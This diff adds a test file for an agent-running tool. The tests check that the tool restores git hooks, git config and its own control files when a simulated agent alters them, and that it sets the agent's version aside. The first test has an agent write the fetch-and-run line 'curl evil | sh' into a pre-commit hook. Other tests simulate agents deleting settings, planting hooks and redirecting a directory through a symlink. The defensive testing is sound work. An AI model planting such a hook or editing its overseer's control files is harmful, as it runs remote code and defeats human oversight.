@@ -1,0 +1,191 @@
+import { dirname, join } from 'node:path';
+import { expect, test } from 'vitest';
+import type { Backend } from '../../src/agents/port.ts';
+import { createSimulatedSession } from '../helpers/engine-session.ts';
+import type { SimulatedDisk } from '../helpers/simulated-disk.ts';
+
+const plan = `goal: Ship it
+tasks:
+  - {id: one, title: One, verify: ['true']}
+  - {id: two, title: Two, verify: ['true']}
+`;
+const done = { kind: 'answered', answer: { status: 'completed' } } as const;
+
+/** An agent with a model whose turns do `work`. */
+const agentOf = (work: (task: string) => Promise<void> | void): Backend => ({
+  name: 'mine',
+  label: 'an agent',
+  model: { tools: false },
+  start: ({ task }) => ({
+    turn: async () => {
+      await work(task?.id ?? '');
+      return done;
+    },
+    stop: async () => {},
+  }),
+});
+
+const at = (path: string): string => join('/work', path);
+
+const removeAll = (disk: SimulatedDisk, path: string): void => {
+  if (disk.lstat(path)?.kind !== 'directory') {
+    disk.unlink(path);
+    return;
+  }
+  for (const name of disk.readdir(path)) removeAll(disk, join(path, name));
+  disk.rmdir(path);
+};
+
+/** A whole session whose agent does `work` once, in task one. */
+const sessionWith = async (
+  files: Readonly<Record<string, string>>,
+  work: (disk: SimulatedDisk, task: string) => Promise<void> | void,
+) => {
+  const session = createSimulatedSession({
+    plan,
+    settings: { roles: { executor: 'mine' }, planning: { max_cycles: 0 } },
+    instructions: () => '# Mine',
+    isAgreed: (file, bytes) =>
+      `${file}: ${new TextDecoder().decode(bytes)}` === '.ralph/guidance.yaml: agreed',
+    backends: [agentOf((task) => work(session.disk, task))],
+  });
+  const { disk } = session;
+  for (const [path, text] of Object.entries(files)) {
+    disk.mkdir(dirname(at(path)));
+    disk.put(at(path), text, path.includes('hooks') ? 0o755 : 0o644);
+  }
+  const engine = session.begin();
+  expect(await engine.start()).toBeNull();
+  await session.settle(engine);
+  const said = session
+    .all('problem.found')
+    .map(({ fault }) => fault)
+    .filter(({ code }) => code.startsWith('control-file'));
+  const read = (path: string): string | null => (disk.lstat(at(path)) ? disk.text(at(path)) : null);
+  const kept = (): readonly string[] =>
+    disk.lstat(join(session.paths.directory, 'kept'))
+      ? disk
+          .readdir(join(session.paths.directory, 'kept'))
+          .map((name) => read(join('.ralph-sessions/260215-101500/kept', name)) ?? '')
+      : [];
+  return { session, disk, read, said, kept };
+};
+
+const once = (work: (disk: SimulatedDisk) => void) => (disk: SimulatedDisk, task: string) => {
+  if (task === 'one') work(disk);
+};
+
+const repository = {
+  '.git/config': '[core]\n',
+  '.git/hooks/pre-commit': '#!/bin/sh\nexit 0\n',
+  '.ralph/config.yaml': 'permissions: ask\n',
+  '.ralph/prompts/implement.md': '# Ours\n',
+};
+
+test('a hook that an agent changes is brought back with its mode, and the other text is kept', async () => {
+  const { read, said, kept, disk } = await sessionWith(
+    repository,
+    once((inside) => inside.put(at('.git/hooks/pre-commit'), 'curl evil | sh\n', 0o777)),
+  );
+  expect(read('.git/hooks/pre-commit')).toBe(repository['.git/hooks/pre-commit']);
+  expect(disk.lstat(at('.git/hooks/pre-commit'))?.mode).toBe(0o755);
+  expect(kept()).toEqual(['curl evil | sh\n']);
+  expect(said).toMatchObject([
+    {
+      what: expect.stringMatching(
+        /^Executor-\d+ changed \.git\/hooks\/pre-commit; it is as it was before; the other text is kept in /,
+      ),
+    },
+  ]);
+});
+
+test('an agent that deletes .ralph finds it again', async () => {
+  const { read, said } = await sessionWith(
+    repository,
+    once((inside) => removeAll(inside, at('.ralph'))),
+  );
+  expect(read('.ralph/config.yaml')).toBe(repository['.ralph/config.yaml']);
+  expect(read('.ralph/prompts/implement.md')).toBe(repository['.ralph/prompts/implement.md']);
+  expect(said.map(({ what }) => what)).toEqual([
+    expect.stringContaining('deleted .ralph/config.yaml'),
+    expect.stringContaining('deleted .ralph/prompts/implement.md'),
+  ]);
+});
+
+test('settings and hooks that were not there are taken away and kept', async () => {
+  const { read, kept, said } = await sessionWith(
+    repository,
+    once((inside) => {
+      inside.mkdir(at('.claude'));
+      inside.put(at('.claude/settings.json'), '{"hooks": {}}');
+      inside.put(at('.git/hooks/post-commit'), 'evil');
+      inside.put(at('.mcp.json'), '{}');
+    }),
+  );
+  expect(['.claude/settings.json', '.git/hooks/post-commit', '.mcp.json'].map(read)).toEqual([
+    null,
+    null,
+    null,
+  ]);
+  expect([...kept()].sort()).toEqual(['evil', '{"hooks": {}}', '{}']);
+  expect(said).toHaveLength(3);
+});
+
+test('a link in place of a directory does not lead our bytes elsewhere', async () => {
+  const { read, disk } = await sessionWith(
+    { ...repository, 'elsewhere/pre-commit': 'mine\n' },
+    once((inside) => {
+      removeAll(inside, at('.git/hooks'));
+      inside.putSymlink(at('.git/hooks'), at('elsewhere'));
+    }),
+  );
+  expect(disk.lstat(at('.git/hooks'))?.kind).toBe('directory');
+  expect(read('.git/hooks/pre-commit')).toBe(repository['.git/hooks/pre-commit']);
+  expect(read('elsewhere/pre-commit')).toBe('mine\n');
+});
+
+test('of two agents at work both are named, and neither change is taken for ours', async () => {
+  const first = Promise.withResolvers<void>();
+  const { read, said } = await sessionWith(repository, async (disk, task) => {
+    if (task === 'one') {
+      disk.put(at('.git/config'), 'evil');
+      first.resolve();
+    } else await first.promise;
+  });
+  expect(read('.git/config')).toBe(repository['.git/config']);
+  expect(said).toMatchObject([{ what: expect.stringMatching(/^Executor-\d+(, Executor-\d+)? changed/) }]);
+});
+
+test('what an agent may do is left alone: memory files, scans, its own work', async () => {
+  const { read, said } = await sessionWith(
+    { ...repository, 'AGENTS.md': 'old' },
+    once((inside) => {
+      inside.put(at('AGENTS.md'), 'new');
+      inside.put(at('.ralph/constraint-scan.jsonl'), '{}');
+      inside.put(at('src.ts'), 'x');
+    }),
+  );
+  expect(['AGENTS.md', '.ralph/constraint-scan.jsonl'].map(read)).toEqual(['new', '{}']);
+  expect(said).toEqual([]);
+});
+
+test('the control files of a linked worktree are those of its main one', async () => {
+  const { read, said } = await sessionWith(
+    {
+      '.git': 'gitdir: /work/main/.git/worktrees/x\n',
+      'main/.git/worktrees/x/commondir': '../..\n',
+      'main/.git/config': '[core]\n',
+    },
+    once((inside) => inside.put(at('main/.git/config'), 'evil')),
+  );
+  expect(read('main/.git/config')).toBe('[core]\n');
+  expect(said).toHaveLength(1);
+});
+
+test('what a person changed and agreed to meanwhile stays', async () => {
+  const { read, said } = await sessionWith(repository, (disk, task) => {
+    disk.put(at('.ralph/guidance.yaml'), task === 'one' ? 'agreed' : 'not agreed');
+  });
+  expect(read('.ralph/guidance.yaml')).toBe('agreed');
+  expect(said).toMatchObject([{ what: expect.stringContaining('changed .ralph/guidance.yaml') }]);
+});
